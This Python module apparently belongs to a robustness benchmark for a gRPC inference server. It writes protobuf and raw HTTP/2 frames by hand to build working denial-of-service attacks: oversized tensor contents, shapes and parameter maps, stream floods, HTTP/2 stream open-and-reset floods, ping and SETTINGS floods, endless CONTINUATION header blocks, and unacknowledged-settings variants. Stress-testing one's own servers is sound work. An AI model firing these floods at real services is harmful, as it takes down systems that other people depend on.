"""gRPC at its worst: large typed contents, maps and shapes, large answers, streams that are reset.

Messages are written field by field: a library would take minutes, and memory, to make them.
"""

from __future__ import annotations

import socket
import struct
import threading
import time
from collections.abc import Callable
from functools import partial

import grpc

from benchmarks.hostile_kinds.kind import LIMIT, Attack, Kind, Target

SERVICE = "/inference.GRPCInferenceService/"
UNLIMITED = [("grpc.max_send_message_length", -1), ("grpc.max_receive_message_length", -1)]
ROOM = LIMIT - 4096
"""Bytes for what fills a message, with room for its other fields."""

CALL_LIMIT_S = 60.0


def varint(number: int) -> bytes:
    """Return a number as protobuf writes it."""
    out = bytearray()
    while number > 127:
        out.append(number & 127 | 128)
        number >>= 7
    return bytes([*out, number])


def field(number: int, content: bytes) -> bytes:
    """Return a field of protobuf with a length."""
    return varint(number << 3 | 2) + varint(len(content)) + content


def tensor(datatype: bytes, shape: bytes, contents: bytes = b"", name: bytes = b"x") -> bytes:
    """Return an input; `shape` is its varints, and `contents` the typed contents' field."""
    typed = field(5, contents) if contents else b""
    return field(5, field(1, name) + field(2, datatype) + field(3, shape) + typed)


def message(model: bytes, *parts: bytes) -> bytes:
    """Return a request to infer."""
    return field(1, model) + b"".join(parts)


def typed(datatype: bytes, number: int, value: bytes, count: int) -> bytes:
    """Return a request whose contents are `count` times `value` in a packed field `number`."""
    model = b"texts" if datatype == b"BYTES" else b"floats"
    contents = value * count if number == 8 else field(number, value * count)
    return message(model, tensor(datatype, b"\1" + varint(count), contents))


def calling(make: Callable[[], bytes], method: str = "ModelInfer") -> Attack:
    """Return an attack that makes one call with the message of `make`."""
    data = make()

    def attack(target: Target) -> str:
        with grpc.insecure_channel(target.grpc, options=UNLIMITED) as channel:
            call = channel.unary_unary(SERVICE + method)
            try:
                call(data, timeout=CALL_LIMIT_S)
            except grpc.RpcError as err:
                return str(err.code().name)
        return "OK"

    return attack


def streaming(make: Callable[[], bytes], count: int) -> Attack:
    """Return an attack that sends the message `count` times on one stream, and reads answers."""
    data = make()

    def attack(target: Target) -> str:
        with grpc.insecure_channel(target.grpc, options=UNLIMITED) as channel:
            call = channel.stream_stream(SERVICE + "ModelStreamInfer")
            try:
                for _ in call(iter([data] * count), timeout=CALL_LIMIT_S):
                    pass
            except grpc.RpcError as err:
                return str(err.code().name)
        return "OK"

    return attack


def versions(length: int) -> Attack:
    """Return an attack of many calls, each with another long text of a version."""
    numbers = iter(range(1 << 62))

    def attack(target: Target) -> str:
        with grpc.insecure_channel(target.grpc, options=UNLIMITED) as channel:
            call = channel.unary_unary(SERVICE + "ModelInfer")
            for _ in range(10):
                version = field(2, b"0" * length + b"%d" % next(numbers))
                try:
                    call(message(b"probe", version), timeout=CALL_LIMIT_S)
                except grpc.RpcError as err:
                    status = str(err.code().name)
        return status

    return attack


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return a frame of HTTP/2."""
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream)
        + payload
    )


def header(name: bytes, value: bytes) -> bytes:
    """Return a header field as HPACK writes it without any table."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


CALL_HEADERS = b"".join(
    header(name, value)
    for name, value in (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", (SERVICE + "ModelStreamInfer").encode()),
        (b":authority", b"h"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    )
)
ACKNOWLEDGEMENT = frame(4, 1, 0)
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)


def frames(
    make: Callable[[int], bytes], count: int, seconds: float = 1.0, acknowledged: bool = True
) -> Attack:
    """Return an attack that writes `make(number)`, `count` at a time, and drops what it reads.

    Without `acknowledged`, it never acknowledges the server's settings.
    """

    def attack(target: Target) -> str:
        end, number = time.monotonic() + seconds, 0
        try:
            with socket.create_connection(
                (target.host, target.grpc_port), timeout=10
            ) as connection:
                connection.sendall(PREFACE)
                if acknowledged:
                    connection.recv(1 << 16)
                    connection.sendall(ACKNOWLEDGEMENT)
                reader = threading.Thread(target=_drop, args=(connection,), daemon=True)
                reader.start()
                while time.monotonic() < end:
                    connection.sendall(b"".join([make(number + one) for one in range(count)]))
                    number += count
        except OSError as err:
            return type(err).__name__
        return "closed"

    return attack


def _drop(connection: socket.socket) -> None:
    try:
        while connection.recv(1 << 16):
            pass
    except OSError:
        return


def reset_stream(number: int) -> bytes:
    """Open a stream and reset it."""
    stream = 2 * number + 1
    return frame(1, 4, stream, CALL_HEADERS) + frame(3, 0, stream, bytes(4))


def ping(number: int) -> bytes:
    """Ask whether the other side is there."""
    return frame(6, 0, 0, struct.pack(">Q", number))


def settings(number: int) -> bytes:
    """Send settings that must be acknowledged."""
    return frame(4, 0, 0, struct.pack(">HI", 3, number % 1000 + 1))


def continuation(number: int) -> bytes:
    """Begin a head at the first number and never end it."""
    block = header(b"a", b"b" * 100) * 100
    return frame(9, 0, 1, block) if number else frame(1, 0, 1, CALL_HEADERS)


def small_entries(number: int) -> bytes:
    """Go on with a head by entries that are as small as entries can be."""
    block = header(b"a", b"") * 3000
    return frame(9, 0, 1, block) if number else frame(1, 0, 1, CALL_HEADERS)


def _call(name: str, make: Callable[[], bytes], clients: int = 1) -> Kind:
    return Kind(f"grpc_{name}", partial(calling, make), clients)


def _raw(model: bytes, datatype: bytes, count: int, data: bytes) -> bytes:
    return message(model, tensor(datatype, b"\1" + varint(count)), field(7, data))


def _rows(model: bytes) -> bytes:
    return message(model, tensor(b"FP32", b"\x40\1"), field(7, bytes(256)))


def _parameters() -> bytes:
    entry = b"".join([field(4, field(1, b"%d" % number)) for number in range(ROOM // 12)])
    return message(b"floats", tensor(b"FP32", b"\1\1"), entry, field(7, bytes(4)))


def _wide(number: int) -> bytes:
    return bytes([0xFF] * 9 + [1]) * (ROOM // 10) if number else b"\1" * ROOM


GRPC_KINDS = (
    _call("fp32_contents", partial(typed, b"FP32", 6, bytes(4), ROOM // 4)),
    _call("int64_contents", partial(typed, b"FP32", 3, b"\0", ROOM)),
    _call("bool_contents", partial(typed, b"FP32", 1, b"\0", ROOM)),
    _call("bytes_contents", partial(typed, b"BYTES", 8, field(8, b""), ROOM // 2)),
    _call("raw", lambda: _raw(b"floats", b"FP32", ROOM // 4, bytes(ROOM))),
    _call("raw of BYTES", lambda: _raw(b"texts", b"BYTES", ROOM // 4, bytes(ROOM))),
    _call("raw contents", lambda: message(b"floats", field(7, b"") * (ROOM // 2))),
    _call("inputs", lambda: message(b"floats", field(5, b"") * (ROOM // 2))),
    _call("outputs", lambda: message(b"floats", field(6, b"") * (ROOM // 2))),
    _call("shape", lambda: message(b"floats", tensor(b"FP32", _wide(0)), field(7, bytes(4)))),
    _call("large shape", lambda: message(b"floats", tensor(b"FP32", _wide(1)), field(7, bytes(4)))),
    _call("parameters", _parameters),
    _call("unknown fields", lambda: message(b"floats", b"\xf8\x07\0" * (ROOM // 3))),
    _call("id", lambda: message(b"floats", field(3, b"a" * ROOM))),
    _call("answer", partial(_rows, b"large"), 2),
    _call("answer of words", partial(_rows, b"words"), 2),
    Kind("grpc_versions", partial(versions, 8 << 20)),
    Kind(
        "grpc_stream",
        partial(streaming, partial(typed, b"FP32", 6, bytes(4), ROOM // 64), 16),
        2,
    ),
    Kind("grpc_stream of answers", partial(streaming, partial(_rows, b"large"), 16)),
    Kind("grpc_stream flood", partial(streaming, partial(_rows, b"floats"), 2000), 4),
    Kind("grpc_resets", partial(frames, reset_stream, 200), 4),
    Kind("grpc_pings", partial(frames, ping, 500), 4),
    Kind("grpc_settings", partial(frames, settings, 500), 4),
    Kind("grpc_continuations", partial(frames, continuation, 10), 4),
    Kind("grpc_small entries", partial(frames, small_entries, 1)),
    *(
        Kind(f"grpc_unacknowledged {name}", partial(frames, make, 10, acknowledged=False), 4)
        for name, make in (
            ("small entries", small_entries),
            ("continuations", continuation),
            ("resets", reset_stream),
            ("settings", settings),
        )
    ),
)
